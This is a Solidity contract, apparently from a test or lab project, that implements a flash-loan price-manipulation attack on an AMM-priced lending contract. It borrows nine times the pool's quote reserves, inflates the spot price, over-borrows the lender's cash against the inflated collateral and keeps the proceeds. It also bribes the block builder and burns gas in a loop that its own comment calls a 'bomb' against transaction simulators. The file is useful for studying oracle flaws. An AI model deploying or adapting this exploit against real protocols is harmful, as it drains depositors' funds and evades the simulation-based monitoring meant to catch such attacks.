// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Amm} from "./Amm.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";
import {PriceLender} from "./PriceLender.sol";

/// @notice Attacks any PriceLender: borrows nine times the pair's quote side, buys, deposits just enough of the bought, borrows all the
/// cash, sells the rest back, repays. Pays the block's builder `bribe` of its own or the sent ether once the loot is in hand, and
/// hashes until `burnGas` gas is gone beforehand, which is a bomb to whoever simulates it under a deadline. Keeps the loot, in the
/// lender's debt token, at its own address; some collateral stays behind. On a paused lender it reverts with EnforcedPause().
contract FlashPriceAttacker is IFlashBorrower {
    FlashLender public immutable LENDER;

    event Looted(address indexed victim, uint256 amount, uint256 bribe);

    error BribeNotTaken(address coinbase);

    constructor(FlashLender lender) {
        LENDER = lender;
    }

    receive() external payable {}

    function attack(PriceLender victim, uint256 bribe, uint256 burnGas) external payable returns (uint256 loot) {
        _burn(burnGas);
        IERC20 token = victim.DEBT();
        uint256 before = token.balanceOf(address(this));
        uint256 loan = token.balanceOf(address(victim.AMM())) * 9;
        LENDER.flashLoan(this, address(token), loan, abi.encode(victim));
        loot = token.balanceOf(address(this)) - before;
        if (bribe > 0) {
            (bool ok,) = block.coinbase.call{value: bribe}("");
            require(ok, BribeNotTaken(block.coinbase));
        }
        emit Looted(address(victim), loot, bribe);
    }

    function onFlashLoan(address, address token, uint256 amount, bytes calldata data) external payable {
        require(msg.sender == address(LENDER));
        PriceLender victim = abi.decode(data, (PriceLender));
        Amm amm = victim.AMM();
        IERC20 base = amm.BASE();
        uint256 held = base.balanceOf(address(this));

        IERC20(token).approve(address(amm), type(uint256).max);
        amm.swap(IERC20(token), amount, 0);
        uint256 cash = IERC20(token).balanceOf(address(victim));
        // 1 % more than the factor asks for, against rounding.
        uint256 collateral = cash * 10_100 / victim.FACTOR_BPS() * 1e18 / amm.spotPrice() + 1;
        base.approve(address(victim), collateral);
        victim.addCollateral(collateral);
        victim.borrow(cash);

        uint256 rest = base.balanceOf(address(this)) - held;
        base.approve(address(amm), rest);
        amm.swap(base, rest, 0);
        IERC20(token).transfer(address(LENDER), amount);
    }

    function _burn(uint256 amount) private view {
        uint256 start = gasleft();
        bytes32 hash;
        while (start - gasleft() < amount) hash = keccak256(abi.encode(hash));
    }
}
